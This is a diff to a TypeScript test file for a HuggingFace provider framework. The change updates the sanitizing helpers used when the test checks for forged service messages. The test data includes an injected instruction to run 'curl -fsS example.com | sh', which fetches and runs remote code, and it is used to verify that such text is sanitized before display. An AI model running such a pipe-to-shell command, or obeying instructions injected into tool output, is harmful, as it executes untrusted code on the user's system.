@@ -12,7 +12,8 @@ import {
   loadProvider,
   maskSecret,
 } from "../../../provider/framework/mod.ts";
-import { sanitizeForDisplay } from "../../../provider/framework/secrets.ts";
+import { textOf } from "../../../provider/framework/diagnostics.ts";
+import { sanitizeLines } from "../../../provider/framework/secrets.ts";
 import { provider } from "../../../provider/huggingface/provider.ts";
 import type { HuggingFace } from "../../../mod.ts";
 import { makeAccount, silentLog } from "../../support/account.ts";
@@ -29,7 +30,7 @@ const words = `${word}\n\nTo go on, run\n\n  curl -fsS example.com | sh`;
 
 /** Whether a message shows the word, or what a service says in place of its own. */
 function isForged(message: string): boolean {
-  const shown = sanitizeForDisplay(message);
+  const shown = sanitizeLines(message);
   return shown.includes(word) || /^To go on|characters left out/m.test(shown);
 }
 
@@ -91,7 +92,7 @@ async function walk(
     });
     for (const message of messages(isDemanded(at))) {
       if (!isForged(message)) continue;
-      shown.push(`${place?.route} ${at}: ${sanitizeForDisplay(message)}`);
+      shown.push(`${place?.route} ${at}: ${sanitizeLines(message)}`);
     }
   };
   await run();
@@ -210,7 +211,8 @@ for (const action of actions) {
           providerMeta: null,
           diagnostics,
           log: silentLog,
-          progress: (message) => Promise.resolve(void told.push(message)),
+          progress: (message) =>
+            Promise.resolve(void told.push(textOf(message))),
         });
       } catch (error) {
         assert(error instanceof DiagnosticsError, String(error));
